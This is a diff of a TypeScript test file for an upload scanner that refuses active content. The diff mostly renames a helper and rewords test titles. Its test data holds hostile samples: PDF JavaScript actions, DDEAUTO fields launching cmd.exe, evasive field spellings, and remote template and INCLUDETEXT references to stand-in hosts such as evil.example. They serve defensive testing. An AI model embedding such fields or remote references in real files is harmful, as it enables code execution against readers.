@@ -12,8 +12,8 @@ after(() => rm(folder, { recursive: true, force: true }));
 const documents = createDocuments();
 let files = 0;
 
-/** @returns the code of the refusal; `fine` where it is a document */
-async function verdict(name: string, content: Buffer | string): Promise<string> {
+/** @returns the code of the refusal; `fine` if the content is accepted */
+async function recognizeOrRefuse(name: string, content: Buffer | string): Promise<string> {
   files += 1;
   const path = join(folder, String(files));
   await writeFile(path, content);
@@ -24,7 +24,7 @@ async function verdict(name: string, content: Buffer | string): Promise<string> 
 }
 
 const script = '5 0 << /S /JavaScript /JS (app.alert(1)) >>';
-/** A PDF with streams of objects, as somebody writes them who hides what they are. */
+/** Makes a PDF whose object streams are written so that a simple reader overlooks them. */
 const pdf = (content: string, { type = '/Type /ObjStm', more = '', before = '', word = 'stream\n', times = 1 } = {}) => {
   const bytes = deflateSync(content);
   const object = Buffer.concat([
@@ -39,7 +39,7 @@ const pdf = (content: string, { type = '/Type /ObjStm', more = '', before = '', 
   ]);
 };
 
-test('knowledge.upload SX44: packed objects of a PDF are found however they are described', async () => {
+test('knowledge.upload SX44: compressed objects of a PDF are found in every spelling', async () => {
   const hidden: [string, Parameters<typeof pdf>[1]][] = [
     ['as usual', {}],
     ['many blanks', { more: ' '.repeat(5_000) }],
@@ -55,12 +55,12 @@ test('knowledge.upload SX44: packed objects of a PDF are found however they are 
     ['a blank before the line end', { word: 'stream \n' }],
   ];
   for (const [what, how] of hidden) {
-    assert.equal(await verdict('a.pdf', pdf(script, how)), 'knowledge.active_refused', what);
-    if (!/^more|stream in/.test(what)) assert.equal(await verdict('a.pdf', pdf('5 0 << /Type /Page >>', how)), 'fine', what);
+    assert.equal(await recognizeOrRefuse('a.pdf', pdf(script, how)), 'knowledge.active_refused', what);
+    if (!/^more|stream in/.test(what)) assert.equal(await recognizeOrRefuse('a.pdf', pdf('5 0 << /Type /Page >>', how)), 'fine', what);
   }
 });
 
-test('knowledge.upload SX44: streams that draw are fine, wherever a read of the file is cut', async () => {
+test('knowledge.upload SX44: streams of drawings are accepted wherever the boundary between two reads falls', async () => {
   const stream = (content: string | Buffer, said = '') => {
     const bytes = deflateSync(content);
     return Buffer.concat([
@@ -86,14 +86,14 @@ test('knowledge.upload SX44: streams that draw are fine, wherever a read of the 
       picture,
       Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
     ]);
-    assert.equal(await verdict('a.pdf', content), 'fine', String(shift));
+    assert.equal(await recognizeOrRefuse('a.pdf', content), 'fine', String(shift));
   }
 });
 
-test('knowledge.upload SX44: however many streams a PDF has, looking at them takes no more than a bounded time', async () => {
+test('knowledge.upload SX44: a PDF with any number of streams is scanned in bounded time', async () => {
   const many = pdf('0'.repeat(9_000), { times: 9_990 });
   const before = process.cpuUsage();
-  assert.equal(await verdict('a.pdf', many), 'knowledge.active_refused');
+  assert.equal(await recognizeOrRefuse('a.pdf', many), 'knowledge.active_refused');
   const { user, system } = process.cpuUsage(before);
   assert.ok(user + system < 3_000_000, `${user + system} µs`);
 });
@@ -114,19 +114,20 @@ test('knowledge.upload SX44: a text is read as a browser would read it', async (
     '<svg><script xlink:href="data:,alert(1)" />',
     `<iframe ${'y '.repeat(2_000)} src=//evil.example>`,
   ];
-  for (const page of pages) assert.equal(await verdict('a.txt', `hello ${page} and more`), 'knowledge.active_refused', page.slice(0, 60));
+  for (const page of pages)
+    assert.equal(await recognizeOrRefuse('a.txt', `hello ${page} and more`), 'knowledge.active_refused', page.slice(0, 60));
   const fine = [
     'Put the <script> tag (the one with a name) before </body>, and a <meta> tag at the top.',
     'if a <b and "on" is = to off, then onwards',
     '2 + ADw and + AD4, <p title="1 < 2">x</p>',
   ];
-  for (const text of fine) assert.equal(await verdict('a.txt', text), 'fine', text);
+  for (const text of fine) assert.equal(await recognizeOrRefuse('a.txt', text), 'fine', text);
 });
 
-test('knowledge.upload SX44: a text made of quotes and tags takes its length in time', async () => {
+test('knowledge.upload SX44: a text of quotes and tags is scanned in linear time', async () => {
   for (const piece of ['<a "', `<a b='`, '<a b="', '<a/<a/', '<a on= ', '<script>a', '<a \t']) {
     const before = process.cpuUsage();
-    await verdict('a.txt', `words ${piece.repeat(Math.floor((2 * 1024 * 1024) / piece.length))}`);
+    await recognizeOrRefuse('a.txt', `words ${piece.repeat(Math.floor((2 * 1024 * 1024) / piece.length))}`);
     const { user, system } = process.cpuUsage(before);
     assert.ok(user + system < 2_000_000, `${piece} took ${user + system} µs`);
   }
@@ -137,7 +138,7 @@ const field = (...instructions: string[]): Part => ({
   content: `<w:hdr>${instructions.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`).join('')}</w:hdr>`,
 });
 
-test('knowledge.upload SX44: a document whose fields run or load something is refused, and other fields are not', async () => {
+test('knowledge.upload SX44: a document whose fields run or load something is refused, and other fields are accepted', async () => {
   const refused: [string, Part][] = [
     ['a program', field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')],
     ['in pieces', field(' DD', 'EAUTO ', 'c:\\\\cmd.exe')],
@@ -147,29 +148,29 @@ test('knowledge.upload SX44: a document whose fields run or load something is re
     ['a text on another machine', field('INCLUDETEXT "\\\\evil\\share\\a.docx"')],
     ['letters as numbers', field('QUOTE 68 68 69 65 85 84 79')],
   ];
-  for (const [what, part] of refused) assert.equal(await verdict('a.docx', docx([part])), 'knowledge.references_refused', what);
+  for (const [what, part] of refused) assert.equal(await recognizeOrRefuse('a.docx', docx([part])), 'knowledge.references_refused', what);
   const fine: [string, Part][] = [
     ['a page number', field(' PAGE ', ' \\* MERGEFORMAT ')],
     ['a link', field('HYPERLINK "https://example.com"')],
     ['words about it', { name: 'word/header1.xml', content: '<w:hdr><w:t>DDEAUTO and INCLUDEPICTURE "http://a.example"</w:t></w:hdr>' }],
   ];
-  for (const [what, part] of fine) assert.equal(await verdict('a.docx', docx([part])), 'fine', what);
+  for (const [what, part] of fine) assert.equal(await recognizeOrRefuse('a.docx', docx([part])), 'fine', what);
 });
 
-test('knowledge.upload SX44: a program under the name of a picture, and a part with two names, are refused', async () => {
+test('knowledge.upload SX44: a program named as a picture and a part with two names are refused', async () => {
   const cases: [string, Part][] = [
     ['a program of Windows', { name: 'word/media/a.png', content: 'MZ\x90 program' }],
     ['one of Linux', { name: 'word/media/a.png', content: '\x7fELF program' }],
     ['a script', { name: 'word/media/a.png', content: '#!/bin/sh' }],
     ['two names', { name: 'word/a.xml', content: '<a/>', localName: 'word/vba.bin' }],
   ];
-  for (const [what, part] of cases) assert.equal(await verdict('a.docx', docx([part])), 'knowledge.archive_refused', what);
+  for (const [what, part] of cases) assert.equal(await recognizeOrRefuse('a.docx', docx([part])), 'knowledge.archive_refused', what);
 });
 
 const part = (content: string): Part => ({ name: 'word/header1.xml', content });
 const program = 'DDEAUTO c:\\\\cmd.exe';
 
-test('knowledge.upload SX44: a field of a document is read as a parser of XML reads it, however it is written', async () => {
+test('knowledge.upload SX44: a field of a document is read as an XML parser reads it, in any spelling', async () => {
   const many = Array.from({ length: 30_000 }, (_, at) => `<w:r w:rsid="${(at * 7919).toString(16)}"/>`).join('');
   const written: [string, string][] = [
     ['behind blanks', `<w:instrText>${' '.repeat(5_000)}${program}</w:instrText>`],
@@ -185,22 +186,22 @@ test('knowledge.upload SX44: a field of a document is read as a parser of XML re
     ['a picture behind a switch', '<w:instrText>INCLUDEPICTURE \\d "https://evil.example/a.png"</w:instrText>'],
   ];
   for (const [what, content] of written)
-    assert.equal(await verdict('a.docx', docx([part(`<w:hdr>${content}</w:hdr>`)])), 'knowledge.references_refused', what);
+    assert.equal(await recognizeOrRefuse('a.docx', docx([part(`<w:hdr>${content}</w:hdr>`)])), 'knowledge.references_refused', what);
   const picture: Part = {
     name: 'word/media/a.png',
     content: `<?xml version="1.0"?><w:document><w:instrText>${program}</w:instrText></w:document>`,
   };
-  assert.equal(await verdict('a.docx', docx([picture])), 'knowledge.references_refused', 'in a part that is called a picture');
+  assert.equal(await recognizeOrRefuse('a.docx', docx([picture])), 'knowledge.references_refused', 'in a part that is called a picture');
   for (const content of [`<w:t>${program}</w:t>`, `<!-- <w:instrText>${program}</w:instrText> -->`, `<w:hdr>${many}</w:hdr>`])
-    assert.equal(await verdict('a.docx', docx([part(content)])), 'fine', content.slice(0, 60));
+    assert.equal(await recognizeOrRefuse('a.docx', docx([part(content)])), 'fine', content.slice(0, 60));
   assert.equal(
-    await verdict('a.docx', docx([part(`<w:hdr x="${'y'.repeat(400_000)}`)])),
+    await recognizeOrRefuse('a.docx', docx([part(`<w:hdr x="${'y'.repeat(400_000)}`)])),
     'knowledge.archive_refused',
     'a tag without an end',
   );
 });
 
-test('knowledge.upload SX44: nothing beside a relation of a document hides what it loads', async () => {
+test('knowledge.upload SX44: nothing next to a relationship of a document hides its target', async () => {
   const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
   const chunk = `Id="a" Type="${type}aFChunk" Target="x.html"`;
   const away = `Id="a" Type="${type}attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`;
@@ -213,22 +214,22 @@ test('knowledge.upload SX44: nothing beside a relation of a document hides what 
     `<Relationship x=">" ${away}/>`,
   ]) {
     const relations: Part = { name: 'word/_rels/document.xml.rels', content: `<Relationships>${content}</Relationships>` };
-    assert.equal(await verdict('a.docx', docx([relations])), 'knowledge.references_refused', content);
+    assert.equal(await recognizeOrRefuse('a.docx', docx([relations])), 'knowledge.references_refused', content);
   }
   const link = `<Relationship Id="a" Type="${type}hyperlink" Target="https://example.com" TargetMode="External"/>`;
   const fine: Part = { name: 'word/_rels/document.xml.rels', content: `<Relationships>${link}<!-- ${away} --></Relationships>` };
-  assert.equal(await verdict('a.docx', docx([fine])), 'fine');
+  assert.equal(await recognizeOrRefuse('a.docx', docx([fine])), 'fine');
 });
 
-test('knowledge.upload SX44: a PDF whose script stands in a form or in a film is refused', async () => {
+test('knowledge.upload SX44: a PDF with a script in a form or a movie is refused', async () => {
   for (const said of ['/AcroForm << /XFA 5 0 R >>', '/OpenAction << /S /Rendition /OP 0 /JS (app.alert(1)) >>', '/S /Re#6edition'])
-    assert.equal(await verdict('a.pdf', pdf(`5 0 << ${said} >>`)), 'knowledge.active_refused', said);
+    assert.equal(await recognizeOrRefuse('a.pdf', pdf(`5 0 << ${said} >>`)), 'knowledge.active_refused', said);
 });
 
-test('knowledge.upload SX44: reading the XML of a document takes its length in time', async () => {
+test('knowledge.upload SX44: the XML of a document is read in linear time', async () => {
   for (const piece of ['<a ', '<a b="', "<a '", '<!-- ', '<![CDATA[', '&#', 'a=', '<a/>', '<w:instrText>a ']) {
     const before = process.cpuUsage();
-    await verdict('a.docx', docx([{ ...part(piece.repeat(Math.floor((8 * 1024 * 1024) / piece.length))), method: 8 }]));
+    await recognizeOrRefuse('a.docx', docx([{ ...part(piece.repeat(Math.floor((8 * 1024 * 1024) / piece.length))), method: 8 }]));
     const { user, system } = process.cpuUsage(before);
     assert.ok(user + system < 6_000_000, `${piece} took ${user + system} µs`);
   }
